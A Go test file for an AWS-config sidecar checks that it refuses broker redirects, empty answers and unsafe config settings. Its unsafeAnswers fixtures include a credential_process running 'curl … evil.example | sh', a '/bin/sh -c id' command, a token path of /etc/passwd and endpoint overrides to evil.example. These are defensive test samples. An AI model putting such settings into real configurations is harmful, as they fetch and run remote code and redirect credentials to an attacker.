package sidecar

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync"
	"testing"

	"github.com/hashicorp/go-hclog"
	"github.com/irsa-broker/irsa-broker/internal/syncbuf"
)

// Attacks on the sidecar through the broker's answer: a redirect, an empty
// answer, settings the broker never renders. Each must leave the last good
// file in place and show in /status, the logs and the metrics.

// TestRedirectKeepsLastGoodFile: the broker URL answering 3xx is a broker
// error naming the status and the Location; the redirect target receives no
// request (so no credential), and the file stays.
func TestRedirectKeepsLastGoodFile(t *testing.T) {
	var mu sync.Mutex
	var evilCalls, brokerCalls int
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		evilCalls++
		mu.Unlock()
		w.WriteHeader(http.StatusOK) // an empty "config"
	}))
	defer evil.Close()
	broker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		brokerCalls++
		n := brokerCalls
		mu.Unlock()
		if n == 1 {
			io.WriteString(w, twoProfiles)
			return
		}
		w.Header().Set("Location", evil.URL+"/collect")
		w.WriteHeader(http.StatusTemporaryRedirect)
	}))
	defer broker.Close()

	e := newPodEnv(t, "r1")
	cfg := e.config0(broker.URL)
	cfg.APIProxy = accessProxy(t, "alice-secret-token")
	a := newAgent(t, cfg, Deps{STS: &fakeSTS{}})
	if out := a.Refresh(context.Background()); !out.OK {
		t.Fatal(out.Error)
	}
	out := a.Refresh(context.Background())
	if out.OK || out.Error.Stage != StageBroker || out.Error.Status != http.StatusTemporaryRedirect ||
		!strings.Contains(out.Error.Message, evil.URL+"/collect") {
		t.Fatalf("outcome = %+v", out.Error)
	}
	if got := readFile(t, e.config); got != twoProfiles {
		t.Fatalf("the last good file was replaced by %q", got)
	}
	if !a.Ready() {
		t.Error("a refused redirect cost readiness; the last good file still works")
	}
	mu.Lock()
	defer mu.Unlock()
	if evilCalls != 0 {
		t.Errorf("the redirect target was called %d times", evilCalls)
	}
}

// TestEmptyAnswerNeverReplacesConfig: an empty answer (the broker's "no
// grants") is accepted only while there is no config with profiles; it never
// overwrites one — not after a success, not after a restart. Whitespace or
// comments alone are never a config.
func TestEmptyAnswerNeverReplacesConfig(t *testing.T) {
	e := newPodEnv(t, "r1")
	fb := &fakeBroker{results: []func() (string, error){ok(twoProfiles), ok(""), ok("\n"), ok("# nothing here\n")}}
	a := newAgent(t, e.config0("http://broker"), Deps{Broker: fb, STS: &fakeSTS{}})
	if out := a.Refresh(context.Background()); !out.OK {
		t.Fatal(out.Error)
	}
	for i := 1; i <= 3; i++ {
		out := a.Refresh(context.Background())
		if out.OK || out.Error.Stage != StageValidate {
			t.Fatalf("answer %d: outcome = %+v", i, out)
		}
		if got := readFile(t, e.config); got != twoProfiles {
			t.Fatalf("answer %d replaced the last good file with %q", i, got)
		}
	}
	if st := a.Status(); !st.Ready || len(st.Profiles) != 2 || st.LastError == nil || st.LastError.Stage != StageValidate {
		t.Errorf("status = %+v", st)
	}

	// A restarted sidecar finds the file on disk: an empty answer does not wipe it.
	restarted := newAgent(t, e.config0("http://broker"), Deps{Broker: &fakeBroker{results: []func() (string, error){ok("")}}, STS: &fakeSTS{}})
	if out := restarted.Refresh(context.Background()); out.OK || out.Error.Stage != StageValidate {
		t.Fatalf("after restart: outcome = %+v", out)
	}
	if got := readFile(t, e.config); got != twoProfiles {
		t.Fatalf("after restart the file became %q", got)
	}
}

// unsafeAnswers are broker answers that parse as AWS config files but hold
// something the broker's renderer never writes. Each is a whole answer.
var unsafeAnswers = map[string]string{
	"credential_process in [default]": "[default]\ncredential_process = sh -c 'curl -s http://evil.example/x | sh'\n" + twoProfiles,
	"credential_process in a profile": strings.Replace(twoProfiles, "role_arn=arn:aws:iam::524112250363:role/acme-list-bucket-role\n",
		"role_arn=arn:aws:iam::524112250363:role/acme-list-bucket-role\ncredential_process = /bin/sh -c id\n", 1),
	"credential_source": "[profile x]\ncredential_source = Ec2InstanceMetadata\nrole_arn=arn:aws:iam::524112250363:role/x\n" + twoProfiles,
	"sso settings":      twoProfiles + "[profile sso]\nsso_start_url = https://evil.example/start\nsso_region = us-east-1\nsso_account_id = 111111111111\nsso_role_name = r\n",
	"endpoint_url":      strings.Replace(twoProfiles, "[profile src_acme-list-bucket-role]\n", "[profile src_acme-list-bucket-role]\nendpoint_url = https://evil.example\n", 1),
	"static keys":       twoProfiles + "[profile keys]\naws_access_key_id = AKIAEVILEVILEVILEVIL\naws_secret_access_key = top-secret-value-xyz\n",
	"unknown key":       strings.Replace(twoProfiles, "source_profile = src_acme-read-bucket-role\n", "source_profile = src_acme-read-bucket-role\nsome_future_setting = 1\n", 1),
	"foreign token path": strings.Replace(twoProfiles, "web_identity_token_file = /var/run/secrets/eks.amazonaws.com/serviceaccount/token\nrole_arn=arn:aws:iam::946429944765:role/acme-read",
		"web_identity_token_file = /etc/passwd\nrole_arn=arn:aws:iam::946429944765:role/acme-read", 1),
	"duplicate key": strings.Replace(twoProfiles, "source_profile = src_acme-list-bucket-role\n",
		"source_profile = src_acme-list-bucket-role\nsource_profile = src_acme-read-bucket-role\n", 1),
	"duplicate profile": twoProfiles + "[profile acme-list-bucket-role]\nregion = us-east-1\n",
	"source_profile cycle": "[profile a]\nsource_profile = b\nrole_arn=arn:aws:iam::524112250363:role/a\n" +
		"[profile b]\nsource_profile = a\nrole_arn=arn:aws:iam::524112250363:role/b\n" + twoProfiles,
	"not a role ARN":    strings.Replace(twoProfiles, "role_arn=arn:aws:iam::524112250363:role/acme-list-bucket-role", "role_arn=arn:aws:iam::524112250363:user/alice", 1),
	"duration too long": strings.Replace(twoProfiles, "source_profile = src_acme-list-bucket-role\n", "source_profile = src_acme-list-bucket-role\nduration_seconds = 99999\n", 1),
	"services section":  twoProfiles + "[services evil]\nsts =\n  endpoint_url = https://evil.example\n",
}

// TestUnsafeAnswerRejected: an answer holding anything the renderer never
// writes is refused as a whole: nothing is written, the last good file stays,
// and the refusal shows in /status, the logs and the metrics — without
// echoing the answer's secret-looking values.
func TestUnsafeAnswerRejected(t *testing.T) {
	for name, answer := range unsafeAnswers {
		t.Run(name, func(t *testing.T) {
			e := newPodEnv(t, "r1")
			fb := &fakeBroker{results: []func() (string, error){ok(twoProfiles), ok(answer)}}
			logs := &syncbuf.Buffer{}
			a, err := New(context.Background(), e.config0("http://broker"), hclog.New(&hclog.LoggerOptions{Output: logs}), Deps{Broker: fb, STS: &fakeSTS{}, VerifyRetry: fastVerify()})
			if err != nil {
				t.Fatal(err)
			}
			defer a.Close()
			srv := httptest.NewServer(a.Handler())
			defer srv.Close()
			if code, body := get(t, srv.URL+"/refresh"); code != 200 {
				t.Fatalf("first refresh: %d %s", code, body)
			}
			code, body := get(t, srv.URL+"/refresh")
			if code != http.StatusServiceUnavailable || !strings.Contains(body, `"stage": "validate"`) {
				t.Fatalf("unsafe answer: /refresh = %d %s", code, body)
			}
			if got := readFile(t, e.config); got != twoProfiles {
				t.Fatalf("the unsafe answer was written:\n%s", got)
			}
			var st Status
			getJSON(t, srv.URL+"/status", &st)
			if !st.Ready || st.LastError == nil || st.LastError.Stage != StageValidate || st.LastError.Message == "" || len(st.Profiles) != 2 {
				t.Errorf("status = %+v", st)
			}
			_, metrics := get(t, srv.URL+"/metrics")
			if !strings.Contains(metrics, `irsa_sidecar_refresh_errors_total{stage="validate"} 1`) {
				t.Errorf("metrics do not count the rejection:\n%s", grepLines(metrics, "irsa_sidecar_"))
			}
			if !strings.Contains(logs.String(), "stage=validate") {
				t.Errorf("logs do not show the rejection:\n%s", logs)
			}
			for _, secret := range []string{"top-secret-value-xyz", "curl -s"} {
				if strings.Contains(body, secret) || strings.Contains(logs.String(), secret) {
					t.Errorf("the answer's value %q was echoed", secret)
				}
			}
		})
	}
}

// TestUnsafeFirstAnswerWritesNothing: refused before any success, nothing is
// written and the sidecar is not ready; `once` fails at once (retrying the same
// broker cannot help).
func TestUnsafeFirstAnswerWritesNothing(t *testing.T) {
	e := newPodEnv(t, "r1")
	fb := &fakeBroker{results: []func() (string, error){ok(unsafeAnswers["credential_process in [default]"])}}
	a := newAgent(t, e.config0("http://broker"), Deps{Broker: fb, STS: &fakeSTS{}})
	err := a.Once(context.Background())
	if err == nil || fb.Calls() != 1 || !strings.HasPrefix(err.Error(), "validate: ") {
		t.Fatalf("once: err = %v after %d calls", err, fb.Calls())
	}
	if _, err := os.Stat(e.config); !os.IsNotExist(err) {
		t.Errorf("config file exists after a refused first answer: %v", err)
	}
	if a.Ready() {
		t.Error("ready without a config")
	}
}

func grepLines(s, substr string) string {
	var out []string
	for _, l := range strings.Split(s, "\n") {
		if strings.Contains(l, substr) && !strings.HasPrefix(l, "#") {
			out = append(out, l)
		}
	}
	return fmt.Sprint(out)
}

// TestWorkloadTokenFilePinsThePath: by default the profiles may name the
// sidecar's token file or the EKS path; WorkloadTokenFile pins one path.
func TestWorkloadTokenFilePinsThePath(t *testing.T) {
	e := newPodEnv(t, "r1")
	custom := strings.ReplaceAll(twoProfiles, DefaultTokenFile, "/var/run/secrets/custom/token")
	ownPath := strings.ReplaceAll(twoProfiles, DefaultTokenFile, e.token)
	for _, tc := range []struct {
		pinned, answer string
		ok             bool
	}{
		{"", twoProfiles, true},
		{"", ownPath, true},
		{"", custom, false},
		{"/var/run/secrets/custom/token", custom, true},
		{"/var/run/secrets/custom/token", twoProfiles, false},
	} {
		cfg := e.config0("http://broker")
		cfg.Verify, cfg.WorkloadTokenFile = false, tc.pinned
		a := newAgent(t, cfg, Deps{Broker: &fakeBroker{results: []func() (string, error){ok(tc.answer)}}})
		out := a.Refresh(context.Background())
		if out.OK != tc.ok || !tc.ok && (out.Error.Stage != StageValidate || !strings.Contains(out.Error.Message, "web_identity_token_file")) {
			t.Errorf("pinned %q, answer naming %q: outcome = %+v", tc.pinned, strings.Split(strings.Split(tc.answer, "web_identity_token_file = ")[1], "\n")[0], out)
		}
		os.Remove(e.config)
	}
}
